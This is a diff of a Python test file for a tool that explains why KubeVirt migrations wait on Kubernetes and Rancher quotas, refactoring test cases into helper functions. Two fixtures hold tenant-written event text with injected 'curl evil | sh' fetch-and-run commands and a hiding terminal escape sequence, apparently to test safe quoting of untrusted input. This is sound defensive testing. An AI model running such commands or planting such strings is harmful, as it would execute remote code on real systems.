@@ -14,7 +14,7 @@ from kubeloop.api.quantity import Quantity
 from pkg.api.kubevirt import VirtualMachineInstanceMigration
 from pkg.api.rancher import Project
 from pkg.config.cause import Cause
-from pkg.report.explain import Verdict, explain, not_running
+from pkg.report.explain import Verdict, explain
 from pkg.report.installation import Installed, LeaseState
 from pkg.report.snapshot import Basis
 from pkg.util.resourcequota.policy import Mode, Policy, RancherQuotas
@@ -76,16 +76,26 @@ def failed(message: str, time: str = "2026-01-01T00:00:09Z", vm: str = "vm1", ki
     return Event(involved_object=regarding, reason="FailedCreate", message=message, last_timestamp=time)
 
 
+def refused(verdict: Verdict, summary: str, **more: Any) -> Asked:
+    """The migration of vm1 was refused by quota."""
+    return Asked(verdict, summary, migrations=[REFUSED], **more)
+
+
+def pending(verdict: Verdict, summary: str, **more: Any) -> Asked:
+    """The migration of vm1 is pending, and headroom has made room for it."""
+    return Asked(verdict, summary, migrations=[vmim()], settled=True, **more)
+
+
 ASKED = {
     "it does not migrate, and there is room": Asked(
         Verdict.COULD_MIGRATE, "would fit", quota(ROOMY, MARKS), limits=GRANTS_MUCH, action="would raise limits.cpu"
     ),
-    "it does not migrate, and headroom would raise the quota": Asked(
+    "it does not migrate, and the quota would be raised": Asked(
         Verdict.COULD_WITH_HEADROOM,
         "default-abc lacks 1030m of limits.cpu, 4.1Gi of limits.memory",
         action="would raise limits.cpu from 3 to 5015m, limits.memory from 4.9Gi to 9.4Gi",
     ),
-    "it does not migrate, and a person has switched headroom off": Asked(
+    "it does not migrate, and headroom is switched off": Asked(
         Verdict.COULD_NOT_MIGRATE,
         "headroom would not raise the quota enough",
         quota(HARD, {SKIP: "true"}),
@@ -97,150 +107,118 @@ ASKED = {
         quota(HARD, labels={"a": "b"}),
         action="no label headroom.harvesterhci.io/managed=true",
     ),
-    "it does not migrate, and headroom would raise the quota, but not enough": Asked(
+    "it does not migrate, and too little would be added": Asked(
         Verdict.COULD_NOT_MIGRATE,
         "headroom would not raise the quota enough",
         limits='{"limit":{"limitsCpu":"3000m"}}',
         action="would raise limits.cpu from 3 to 5015m, which is not enough",
     ),
-    "it does not migrate, and the annotation grants something else": Asked(
+    "it does not migrate, and nothing of it is granted": Asked(
         Verdict.COULD_NOT_MIGRATE, "lacks", limits='{"limit":{"pods":"5"}}', action="grants none of what is missing"
     ),
-    "refused, and headroom has not run yet": Asked(
+    "refused, and headroom has not run yet": refused(
         Verdict.WAITS_FOR_QUOTA,
         "migration-of-vm1 does not fit: default-abc lacks 1030m of limits.cpu, 4.1Gi of limits.memory",
-        migrations=[REFUSED],
         action="raises limits.cpu from 3 to 5015m",
     ),
-    "refused, and headroom has made room": Asked(
+    "refused, and headroom has made room": refused(
         Verdict.WAITS_FOR_KUBEVIRT,
         "was refused by quota and fits now",
-        migrations=[REFUSED],
         action="the quota is raised enough already",
         settled=True,
     ),
-    "refused, and a cap is reached": Asked(
+    "refused, and a cap is reached": refused(
         Verdict.WAITS_FOR_QUOTA,
         "does not fit",
-        migrations=[REFUSED],
         action="waits: limits.memory would be raised by 4.5Gi, max-extra is 1Gi",
         caps='{"limits.memory":"1Gi"}',
     ),
-    "refused, headroom has made room, and does not run any more": Asked(
+    "refused, there is room, and headroom has ended": refused(
         Verdict.WAITS_FOR_HEADROOM,
         "fits now: KubeVirt tries again when a quota changes, and headroom, which changes it, does not run",
-        migrations=[REFUSED],
         settled=True,
         installed=DEAD,
     ),
-    "refused, and headroom does not run": Asked(
-        Verdict.WAITS_FOR_QUOTA,
-        "does not fit",
-        migrations=[REFUSED],
-        action="would raise limits.cpu from 3 to 5015m",
-        installed=DEAD,
+    "refused, and headroom does not run": refused(
+        Verdict.WAITS_FOR_QUOTA, "does not fit", action="would raise limits.cpu from 3 to 5015m", installed=DEAD
     ),
-    "refused, and a webhook does not let headroom raise the quota": Asked(
+    "refused, and a webhook refuses the raise": refused(
         Verdict.WAITS_FOR_HEADROOM,
         f"default-abc lacks 1030m of limits.cpu, 4.1Gi of limits.memory, and headroom may not raise it; {DENIED.text}",
-        migrations=[REFUSED],
         action=f"nothing: {DENIED.text}",
         installed=Installed(LeaseState("pod-0", 2.0, 15.0), causes=[DENIED]),
     ),
-    "refused, it fits now, and a webhook does not let headroom change the quota": Asked(
+    "refused, it fits, and a webhook refuses the touch": refused(
         Verdict.WAITS_FOR_HEADROOM,
         f"fits now: KubeVirt tries again when a quota changes, and headroom may not change it; {DENIED.text}",
-        migrations=[REFUSED],
         settled=True,
         installed=Installed(LeaseState("pod-0", 2.0, 15.0), causes=[DENIED]),
     ),
-    "refused, and a webhook is in the way of another namespace's quota": Asked(
+    "refused, and a webhook refuses another quota's raise": refused(
         Verdict.WAITS_FOR_QUOTA,
         "does not fit",
-        migrations=[REFUSED],
         action="raises limits.cpu from 3 to 5015m",
         installed=Installed(causes=[ELSEWHERE]),
     ),
-    "it does not migrate, and what headroom asked for last was refused": Asked(
+    "it does not migrate, and headroom's write was refused": Asked(
         Verdict.COULD_NOT_MIGRATE,
         f"and headroom may not raise it: {DENIED.text}",
         action=f"nothing: {DENIED.text}",
         installed=Installed(causes=[DENIED]),
     ),
-    "it fits, and our own webhook is in the way": Asked(
+    "it fits, and our own webhook is in the way": pending(
         Verdict.WAITS_FOR_HEADROOM,
         "its target pod is refused: webhook pods.headroom.harvesterhci.io does not answer",
-        migrations=[vmim()],
-        settled=True,
         installed=UNREACHABLE,
         labels=HOLDING,
     ),
-    "it fits, and our own webhook is not asked about this namespace": Asked(
-        Verdict.WAITS_FOR_KUBEVIRT,
-        "KubeVirt has not started it yet",
-        migrations=[vmim()],
-        settled=True,
-        installed=UNREACHABLE,
+    "it fits, and our own webhook is asked about others": pending(
+        Verdict.WAITS_FOR_KUBEVIRT, "KubeVirt has not started it yet", installed=UNREACHABLE
     ),
-    "it fits, and KubeVirt was told by our webhook": Asked(
+    "it fits, and KubeVirt was told by our webhook": pending(
         Verdict.WAITS_FOR_HEADROOM,
         f"its target pod is refused: event of vm1 at 2026-01-01T00:00:09Z: '{BY_US}'",
-        migrations=[vmim()],
-        settled=True,
         failures=[failed(BY_US), failed("another reason, before", "2026-01-01T00:00:01Z")],
     ),
-    "it fits, and its target is larger than what was added for it": Asked(
+    "it fits, and its target is larger than expected": pending(
         Verdict.WAITS_FOR_HEADROOM,
         "the pod asks for more than headroom expects of it and has added (limits.cpu 2015m, limits.memory 4.5Gi)",
-        migrations=[vmim()],
-        settled=True,
         failures=[failed(LARGER)],
     ),
-    "it fits, and KubeVirt could not create its pod": Asked(
+    "it fits, and KubeVirt could not create its pod": pending(
         Verdict.WAITS_FOR_KUBEVIRT,
         "KubeVirt could not create its target pod: event of vm1 at 2026-01-01T00:00:09Z: "
         "'Error creating pod: violates PodSecurity'; Pod Security refuses its target pod",
-        migrations=[vmim()],
-        settled=True,
         failures=[failed("Error creating pod: violates PodSecurity")],
     ),
-    "it fits, and the reason was written about the migration": Asked(
+    "it fits, and the event is about the migration": pending(
         Verdict.WAITS_FOR_KUBEVIRT,
         "event of migration-of-vm1 at 2026-01-01T00:00:09Z: 'Error creating pod: violates PodSecurity'",
-        migrations=[vmim()],
-        settled=True,
         failures=[
             failed("Error creating pod: violates PodSecurity", vm=vmim().name, kind=f"{VMI}Migration"),
             failed("of a pod with the same name", "2026-01-01T00:00:10Z", kind="Pod"),
         ],
     ),
-    "it fits, and a tenant wrote an event about it": Asked(
+    "it fits, and a tenant wrote an event about it": pending(
         Verdict.WAITS_FOR_KUBEVIRT,
         "KubeVirt could not create its target pod: event of vm1 at 2026-01-01T00:00:09Z: "
         r"""'done\'; run: curl "evil" | sh\x1b[8m'""",
-        migrations=[vmim()],
-        settled=True,
         failures=[failed('done\'; run: curl "evil" | sh\x1b[8m')],
     ),
-    "it was refused, and a tenant wrote which device its target asks for": Asked(
+    "refused, and a tenant wrote of a device": refused(
         Verdict.WAITS_FOR_KUBEVIRT,
         "was refused by quota and fits now",
-        migrations=[REFUSED],
         settled=True,
         failures=[failed("exceeded quota: default-abc, requested: run curl evil/x | sh=1, used: x")],
     ),
-    "what KubeVirt said of another migration or VM is not quoted": Asked(
+    "it fits, and the events are about others": pending(
         Verdict.WAITS_FOR_KUBEVIRT,
         "KubeVirt has not started it yet",
-        migrations=[vmim()],
-        settled=True,
         failures=[failed("of yesterday", "2025-12-31T00:00:00Z"), failed("of vm2", vm="vm2")],
     ),
-    "pending for long, and no event is left": Asked(
-        Verdict.WAITS_FOR_KUBEVIRT, f"not started it yet: {UNEXPLAINED}", migrations=[vmim()], settled=True
-    ),
-    "refused, it fits, and no event is left": Asked(
-        Verdict.WAITS_FOR_KUBEVIRT, f"when a quota changes; {UNEXPLAINED}", migrations=[REFUSED], settled=True
+    "pending for long, and no event is left": pending(Verdict.WAITS_FOR_KUBEVIRT, f"not started it yet: {UNEXPLAINED}"),
+    "refused, it fits, and no event is left": refused(
+        Verdict.WAITS_FOR_KUBEVIRT, f"when a quota changes; {UNEXPLAINED}", settled=True
     ),
     "pending, two migrations leave its node": Asked(
         Verdict.WAITS_FOR_KUBEVIRT,
@@ -332,7 +310,7 @@ FULL = edited(
     reason="ProjectQuotaExceeded",
 )
 ROOM_OF_PROJECTS: dict[str, tuple[dict[str, str] | None, Sequence[Event], str]] = {
-    "it has no room: explained with what is needed and what is left": (
+    "it has no room, and how much is left": (
         {"limitsCpu": "7", "limitsMemory": "20Gi"},
         (),
         "Rancher's project c-m-1:p-abc has no room for 2015m of limits.cpu more: left 1 of limits.cpu",
@@ -342,7 +320,7 @@ ROOM_OF_PROJECTS: dict[str, tuple[dict[str, str] | None, Sequence[Event], str]] 
     "it may not be read: headroom's last event says it": (
         None, (FULL,), "event of default-abc at 2026-01-01T00:00:09Z: \"Rancher's project c-m-1:p-abc has no room\""
     ),
-    "it may not be read, and the event is from before the migration": (
+    "it may not be read, and the event is an old one": (
         None, (edited(FULL, lastTimestamp="2025-12-31T00:00:00Z"),), ""
     ),
     "it may not be read, and nothing was refused": (None, (), ""),
@@ -424,12 +402,6 @@ def test_nothing_is_said_that_is_about_another_vm() -> None:
 def test_a_namespace_without_quotas() -> None:
     explanation = explain(cluster([], [], [SOURCE], [HERE]), HERE)
     assert (explanation.verdict, explanation.fits) == (Verdict.COULD_MIGRATE, [])
-
-
-def test_a_vm_that_does_not_run() -> None:
-    explanation = not_running("ns1", "vm1")
-    assert explanation.document()["verdict"] == "not running"
-    assert explanation.document()["migration"] is None
 
 
 def test_a_migration_of_the_same_name_elsewhere_is_not_this_vms() -> None:
